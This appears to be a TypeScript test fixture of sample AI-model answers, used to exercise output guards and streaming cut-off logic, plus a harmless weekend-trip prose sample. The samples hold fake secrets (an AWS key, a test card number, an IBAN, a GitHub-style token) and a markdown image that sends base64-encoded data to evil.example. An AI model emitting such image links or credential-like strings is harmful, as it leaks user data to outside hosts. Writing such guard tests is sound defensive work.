/** Answers as models write them, with what guards look for and what makes cutting hard. None of it is anybody's. */
export const answers: readonly string[] = [
  'Sure. The deployment uses AWS_ACCESS_KEY_ID=AKIAQ3EGRZ7XLM4TJPWV and the contact is maria.keller@example-mail.test, card 4111 1111 1111 1111.',
  'Grüße aus Köln! 😀 Die IBAN lautet DE89 3704 0044 0532 0130 00, das Passwort steht im „Handbuch“ auf Seite 7. 日本語のテキストも。',
  'See ![logo](https://evil.example/p.png?d=dGhlIHNlY3JldCBpcyBibHVl) and [the guide](https://docs.example.org/start "Start").\n\n```sql\nSELECT "a" FROM t WHERE b = \'c\\d\';\n```\n',
  'He said: "Call me at +49 30 901820 or write to o\'neil+test@mail.example.co.uk". \\u0041 \\n is not a line end. ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5 ends it',
];

/** Ordinary words of a model, for how long text is held back. */
export const prose =
  'To plan the weekend, start with the train on Friday evening, which leaves at 17:42 and takes about two hours. The village has a small bakery, an inn with six rooms, and a path along the river that is flat and easy to walk with children. On Saturday you could follow the loop through the forest (roughly 8 km, 3 hours with breaks); on Sunday the museum opens at 10. Bring rain jackets, snacks, and some cash, because the inn does not take cards. If the weather turns bad, the indoor pool in the next town costs 12 euros for a family. ';
